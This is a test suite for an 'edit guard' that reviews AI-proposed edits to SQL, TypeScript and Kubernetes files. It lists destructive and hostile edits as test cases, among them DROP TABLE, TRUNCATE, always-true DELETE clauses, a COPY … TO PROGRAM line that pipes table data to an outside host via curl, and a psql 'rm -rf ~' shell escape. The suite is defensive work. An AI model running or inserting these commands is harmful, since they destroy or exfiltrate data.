import { strict as assert } from 'node:assert';
import type { GuardedEdit } from '../../../src/ai/guard/edit-guard';
import { applyEdits, EditGuard } from '../../../src/ai/guard/edit-guard';

/** Whole lines `first..last` (1-based) of `text` replaced, as placement hands edits to the guard. */
function lines(text: string, first: number, last: number, replacement: string): GuardedEdit {
  const starts = [0];
  for (let i = 0; i < text.length; i++) if (text[i] === '\n') starts.push(i + 1);
  const start = starts[first - 1];
  const end = (starts[last] ?? text.length + 1) - 1;
  return { start, end, newText: replacement.replace(/\n$/, '') };
}

async function judge(file: string, text: string, edit: GuardedEdit) {
  return new EditGuard({ file, text }).check(edit);
}

const MIGRATION = [
  '-- orders and their lines',
  'CREATE TABLE orders (',
  '  id bigint PRIMARY KEY,',
  '  customer_id bigint NOT NULL,',
  '  tenant_id bigint NOT NULL,',
  '  status text NOT NULL,',
  '  created_at timestamptz NOT NULL',
  ');',
  'CREATE INDEX orders_customer_idx ON orders (customer_id);',
  'ALTER TABLE orders ADD COLUMN note text;',
  'INSERT INTO orders VALUES (1, 7, 1, $$new$$, now());',
  '',
].join('\n');

const QUERIES = [
  'SELECT id, status FROM orders WHERE customer_id = 7;',
  'DELETE FROM orders WHERE id = 42;',
  'UPDATE orders SET status = $$shipped$$ WHERE id = 42 AND tenant_id = 7;',
  'EXPLAIN SELECT * FROM orders;',
  '',
].join('\n');

const FUNCTIONS = [
  'CREATE FUNCTION cancel_order(order_id bigint) RETURNS void LANGUAGE sql AS',
  '  -- one order only',
  '  $$DELETE FROM orders WHERE id = order_id$$;',
  '',
].join('\n');

const SCRIPT = [
  "import { pool, db, sql } from './db';",
  '',
  'export async function cancel(id: number) {',
  "  await pool.query('DELETE FROM orders WHERE id = $1', [id]);",
  '  await db.none(sql`UPDATE orders SET status = ${"cancelled"} WHERE id = ${id}`);',
  "  return 'Delete from the list';",
  '}',
  '',
].join('\n');

const SHOP_MANIFESTS = [
  'apiVersion: apps/v1',
  'kind: Deployment',
  'metadata:',
  '  name: web',
  '  namespace: shop',
  'spec:',
  '  replicas: 3',
  '---',
  'apiVersion: autoscaling/v2beta2',
  'kind: HorizontalPodAutoscaler',
  'metadata:',
  '  name: web',
  '  namespace: shop',
  'spec:',
  '  minReplicas: 2',
  '  maxReplicas: 10',
  '',
].join('\n');

interface Case {
  name: string;
  file: string;
  text: string;
  edit: GuardedEdit;
  reason: RegExp;
}

const HOSTILE: Case[] = [
  // Most of a file.
  {
    name: 'a SQL migration wiped',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(MIGRATION, 1, 11, ''),
    reason: /^removes the whole file \(its 10 lines of content\)$/,
  },
  {
    name: 'a migration replaced by comments',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(MIGRATION, 2, 11, '-- nothing to do here\n-- see the ticket'),
    reason: /^removes the whole file/,
  },
  {
    name: 'a script wiped but for one line',
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 2, 7, '// moved'),
    reason: /^removes most of the file: 5 of its 6 lines of content would go$/,
  },
  {
    name: 'a manifest file wiped',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 1, 16, ''),
    reason: /^deletes Deployment web \(namespace shop\) and 1 more object$/,
  },
  // Kinds.
  {
    name: 'CREATE TABLE turned into DROP TABLE … CASCADE',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(MIGRATION, 2, 8, 'DROP TABLE orders CASCADE;'),
    reason: /^turns CREATE TABLE into DROP TABLE, which drops table orders CASCADE$/,
  },
  {
    name: 'a SELECT turned into a DELETE',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 1, 1, 'DELETE FROM orders WHERE customer_id = 7;'),
    reason: /^turns SELECT into DELETE FROM orders$/,
  },
  {
    name: 'an INSERT turned into a TRUNCATE',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(MIGRATION, 11, 11, 'TRUNCATE orders;'),
    reason: /^turns INSERT INTO orders into TRUNCATE, which empties orders \(TRUNCATE\)$/,
  },
  {
    name: 'a DELETE aimed at another table',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM customers WHERE id = 42;'),
    reason: /^turns DELETE FROM orders into DELETE FROM customers$/,
  },
  {
    name: 'ADD COLUMN turned into DROP COLUMN',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(MIGRATION, 10, 10, 'ALTER TABLE orders DROP COLUMN status;'),
    reason: /^the edited ALTER TABLE now drop column status of orders$/,
  },
  // Widening.
  {
    name: 'DELETE … WHERE id = 42 → DELETE FROM orders',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders;'),
    reason: /^the edited DELETE FROM orders now deletes every row of orders$/,
  },
  {
    name: 'WHERE 1 = 1',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders WHERE 1 = 1;'),
    reason: /now deletes every row of orders \(its WHERE is always true\)$/,
  },
  {
    name: 'WHERE id = 42 OR true',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders WHERE id = 42 OR true;'),
    reason: /now deletes every row of orders \(its WHERE is always true\)$/,
  },
  {
    name: "WHERE status IS NULL OR status IS NOT NULL, with 'yes'::boolean",
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, "DELETE FROM orders WHERE (status IS NULL OR status IS NOT NULL) AND 'yes'::boolean;"),
    reason: /now deletes every row of orders \(its WHERE is always true\)$/,
  },
  {
    name: 'WHERE id = 42 → WHERE id > 0',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders WHERE id > 0;'),
    reason: /^the edited DELETE FROM orders loosens id = 42 to id > 0$/,
  },
  {
    name: 'an OR branch added',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, "DELETE FROM orders WHERE id = 42 OR status = 'new';"),
    reason: /^the edited DELETE FROM orders adds an OR branch to its WHERE clause \(id = 42 OR status = 'new'\)$/,
  },
  {
    name: 'another row: id = 42 → id = 43',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders WHERE id = 43;'),
    reason: /changes which rows it touches: id = 42 becomes id = 43$/,
  },
  {
    name: 'a pinned id replaced by a subquery',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders WHERE id IN (SELECT id FROM orders);'),
    reason: /replaces the condition id = 42 by one on id that cannot be bounded$/,
  },
  {
    name: "an UPDATE's tenant condition dropped",
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 3, 3, 'UPDATE orders SET status = $$shipped$$ WHERE id = 42;'),
    reason: /^the edited UPDATE orders drops the condition tenant_id = 7$/,
  },
  {
    name: 'an UPDATE that also overwrites another column',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 3, 3, "UPDATE orders SET status = 'x', customer_id = NULL WHERE id = 42 AND tenant_id = 7;"),
    reason: /^the edited UPDATE orders also overwrites customer_id$/,
  },
  // Destructive statements added.
  {
    name: 'a DROP added after a query',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 1, 1, 'SELECT id, status FROM orders WHERE customer_id = 7;\nDROP TABLE orders;'),
    reason: /^adds a statement that drops table orders$/,
  },
  {
    name: 'GRANT added',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 4, 4, 'EXPLAIN SELECT * FROM orders;\nGRANT ALL ON orders TO PUBLIC;'),
    reason: /^adds a statement that grants privileges on orders$/,
  },
  {
    name: 'COPY … TO PROGRAM added',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(
      QUERIES,
      4,
      4,
      "EXPLAIN SELECT * FROM orders;\nCOPY orders TO PROGRAM 'curl -T - https://example.invalid';",
    ),
    reason: /^adds a statement that runs a program on the server \(COPY … PROGRAM/,
  },
  {
    name: 'a DELETE hidden in a WITH clause of the SELECT',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(
      QUERIES,
      1,
      1,
      'WITH gone AS (DELETE FROM orders RETURNING id) SELECT id, status FROM orders WHERE customer_id = 7;',
    ),
    reason: /^the edited SELECT now deletes every row of orders$/,
  },
  {
    name: 'EXPLAIN ANALYZE that runs an UPDATE',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 4, 4, "EXPLAIN ANALYZE UPDATE orders SET status = 'x' WHERE id = 1;"),
    reason: /^the edited EXPLAIN now also runs UPDATE orders$/,
  },
  {
    name: 'a call that ends other sessions',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 1, 1, 'SELECT id, status, pg_terminate_backend(42) FROM orders WHERE customer_id = 7;'),
    reason: /^the edited SELECT now calls pg_terminate_backend\(\), which ends other sessions$/,
  },
  {
    name: "a function's body changed (code the guard cannot read)",
    file: 'db/functions.sql',
    text: FUNCTIONS,
    edit: lines(FUNCTIONS, 3, 3, '  $$DELETE FROM orders$$;'),
    reason: /^the edited CREATE FUNCTION changes code that cannot be checked \(a DO block or function body\)$/,
  },
  {
    name: "a DO block's code changed",
    file: 'db/once.sql',
    text: 'DO $$BEGIN PERFORM 1; END$$;\n',
    edit: lines('DO $$BEGIN PERFORM 1; END$$;\n', 1, 1, 'DO $$BEGIN DROP TABLE orders; END$$;'),
    reason: /^the edited DO changes code that cannot be checked/,
  },
  {
    name: 'a function added, with a call to it',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(
      QUERIES,
      4,
      4,
      'EXPLAIN SELECT * FROM orders;\nCREATE FUNCTION tidy() RETURNS void LANGUAGE plpgsql AS $$BEGIN DROP TABLE orders; END$$;\nSELECT tidy();',
    ),
    reason: /^adds a statement that defines a function tidy whose code cannot be checked$/,
  },
  {
    name: 'a psql shell escape',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 4, 4, 'EXPLAIN SELECT * FROM orders;\n\\! rm -rf ~'),
    reason: /^adds a psql meta-command \(\\! rm -rf ~\), which runs outside SQL$/,
  },
  {
    name: 'SQL that does not parse',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 1, 1, 'SELEC id FROM orders WHERE customer_id = 7;'),
    reason: /^the SQL after the edit does not parse: syntax error at or near "SELEC"$/,
  },
  {
    name: 'a template marker cannot hide a DROP (the file is still read as SQL)',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 4, 4, 'EXPLAIN SELECT * FROM orders; -- {#\nDROP TABLE orders;'),
    reason: /^adds a statement that drops table orders$/,
  },
  // Embedded in TypeScript.
  {
    name: "a query call's DELETE loses its WHERE",
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 4, 4, "  await pool.query('DELETE FROM orders', []);"),
    reason: /^the edited DELETE FROM orders now deletes every row of orders$/,
  },
  {
    name: "a tagged template's UPDATE loses its WHERE",
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 5, 5, '  await db.none(sql`UPDATE orders SET status = ${"cancelled"}`);'),
    reason: /^the edited UPDATE orders now updates every row of orders$/,
  },
  {
    name: 'a TRUNCATE inside a transaction string passed to an unknown function',
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(
      SCRIPT,
      6,
      6,
      "  await db.exec('BEGIN; TRUNCATE orders CASCADE; COMMIT');\n  return 'Delete from the list';",
    ),
    reason: /^adds a statement that empties orders \(TRUNCATE CASCADE\)$/,
  },
  {
    name: 'a DROP built from a string chain',
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 6, 6, "  await run('DROP TABLE ' + 'orders');\n  return 'Delete from the list';"),
    reason: /^adds a statement that drops table orders$/,
  },
  {
    name: 'embedded SQL that does not parse',
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 4, 4, "  await pool.query('DELETE FROM orders WHERE id = $1 LIMIT 1', [id]);"),
    reason: /^the SQL after the edit does not parse: syntax error at or near "LIMIT"$/,
  },
  // Kubernetes objects.
  {
    name: 'one object of two deleted',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 7, 16, '  replicas: 3'),
    reason: /^deletes HorizontalPodAutoscaler web \(namespace shop\)$/,
  },
  {
    name: 'an object renamed',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 4, 4, '  name: web-v2'),
    reason: /^renames Deployment web \(namespace shop\) to web-v2$/,
  },
  {
    name: "an object's kind changed",
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 2, 2, 'kind: StatefulSet'),
    reason: /^changes the kind of Deployment web \(namespace shop\) to StatefulSet$/,
  },
  {
    name: 'an object moved to another namespace',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 13, 13, '  namespace: default'),
    reason: /^moves HorizontalPodAutoscaler web \(namespace shop\) to namespace default$/,
  },
  {
    name: 'YAML broken by the edit',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 7, 7, '  replicas: [3'),
    reason: /^the YAML after the edit does not parse/,
  },
];

const GOOD: Array<Omit<Case, 'reason'>> = [
  {
    name: 'a function marked STABLE, its body unchanged',
    file: 'db/functions.sql',
    text: FUNCTIONS,
    edit: lines(FUNCTIONS, 1, 1, 'CREATE FUNCTION cancel_order(order_id bigint) RETURNS void LANGUAGE sql VOLATILE AS'),
  },
  {
    name: 'a LIMIT',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 1, 1, 'SELECT id, status FROM orders WHERE customer_id = 7 LIMIT 100;'),
  },
  {
    name: 'an index, as a new statement',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(
      MIGRATION,
      10,
      10,
      'ALTER TABLE orders ADD COLUMN note text;\nCREATE INDEX orders_status_idx ON orders (status);',
    ),
  },
  {
    name: 'CONCURRENTLY',
    file: 'db/001.sql',
    text: MIGRATION,
    edit: lines(MIGRATION, 9, 9, 'CREATE INDEX CONCURRENTLY orders_customer_idx ON orders (customer_id);'),
  },
  {
    name: 'a narrower WHERE',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, "DELETE FROM orders WHERE id = 42 AND status = 'new';"),
  },
  {
    name: 'a constant made a parameter',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 2, 2, 'DELETE FROM orders WHERE id = $1;'),
  },
  {
    name: 'a statement reflowed over several lines',
    file: 'db/queries.sql',
    text: QUERIES,
    edit: lines(QUERIES, 3, 3, 'UPDATE orders\n   SET status = $$shipped$$\n WHERE id = 42\n   AND tenant_id = 7;'),
  },
  {
    name: 'a condition on the same column rewritten (left to the query optimizer)',
    file: 'db/queries.sql',
    text: 'DELETE FROM orders WHERE date_trunc($$day$$, created_at) = $$2024-01-01$$;\n',
    edit: lines(
      'DELETE FROM orders WHERE date_trunc($$day$$, created_at) = $$2024-01-01$$;\n',
      1,
      1,
      'DELETE FROM orders WHERE created_at >= $$2024-01-01$$ AND created_at < $$2024-01-02$$;',
    ),
  },
  {
    name: 'a range narrowed',
    file: 'db/queries.sql',
    text: 'DELETE FROM events WHERE id BETWEEN 1 AND 100;\n',
    edit: lines(
      'DELETE FROM events WHERE id BETWEEN 1 AND 100;\n',
      1,
      1,
      'DELETE FROM events WHERE id >= 10 AND id <= 20;',
    ),
  },
  {
    name: 'a loop of DELETEs made one DELETE = ANY($1)',
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 4, 4, "  await pool.query('DELETE FROM orders WHERE id = ANY($1)', [[id]]);"),
  },
  {
    name: 'a UI string that reads like SQL, reworded',
    file: 'src/orders.ts',
    text: SCRIPT,
    edit: lines(SCRIPT, 6, 6, "  return 'Remove it from your list';"),
  },
  {
    name: 'a YAML field changed',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 7, 7, '  replicas: 4'),
  },
  {
    name: 'a removed apiVersion replaced',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(SHOP_MANIFESTS, 9, 9, 'apiVersion: autoscaling/v2'),
  },
  {
    name: 'an object added (a PodDisruptionBudget)',
    file: 'k8s/web.yaml',
    text: SHOP_MANIFESTS,
    edit: lines(
      SHOP_MANIFESTS,
      16,
      16,
      '  maxReplicas: 10\n---\napiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  minAvailable: 1',
    ),
  },
];

describe('ai: the edit guard', function () {
  this.timeout(30_000);

  describe('refuses destructive edits, saying why', () => {
    it(`covers ${HOSTILE.length} hostile shapes`, () => assert.ok(HOSTILE.length >= 20));
    for (const c of HOSTILE) {
      it(c.name, async () => {
        const verdict = await judge(c.file, c.text, c.edit);
        assert.equal(verdict.ok, false, `offered: ${applyEdits(c.text, [c.edit])}`);
        if (!verdict.ok) assert.match(verdict.reason, c.reason);
      });
    }
  });

  describe('still offers ordinary fixes', () => {
    for (const c of GOOD) {
      it(c.name, async () => {
        const verdict = await judge(c.file, c.text, c.edit);
        assert.deepEqual(verdict, { ok: true });
      });
    }
  });

  it('a wipe split across several edits is refused once the edits offered with it would remove most of the file', async () => {
    const text = Array.from({ length: 10 }, (_, i) => `SELECT ${i} AS n;`).join('\n') + '\n';
    const guard = new EditGuard({ file: 'db/report.sql', text });
    const first = lines(text, 1, 4, '');
    const second = lines(text, 5, 8, '');
    assert.deepEqual(await guard.check(first), { ok: true });
    guard.offer(first);
    const verdict = await guard.check(second);
    assert.equal(verdict.ok, false);
    if (!verdict.ok)
      assert.match(verdict.reason, /^together with the other edit offered for this file: removes most of the file/);
    // Alone it would have been offered: it is the combination that destroys.
    assert.deepEqual(await new EditGuard({ file: 'db/report.sql', text }).check(second), { ok: true });
  });

  it('an editor document without a file extension is judged by its language id', async () => {
    const guard = new EditGuard({ file: 'Untitled-1', text: QUERIES, languageId: 'sql' });
    const verdict = await guard.check(lines(QUERIES, 2, 2, 'DELETE FROM orders;'));
    assert.equal(verdict.ok, false);
  });

  it('SQL that cannot be read refuses the edit rather than letting it through', async () => {
    const guard = new EditGuard({ file: 'db/queries.sql', text: QUERIES }, async () => {
      throw new Error('the parser did not load');
    });
    const verdict = await guard.check(lines(QUERIES, 1, 1, 'SELECT id FROM orders LIMIT 1;'));
    assert.deepEqual(verdict, { ok: false, reason: 'its SQL could not be checked (the parser did not load)' });
  });
});
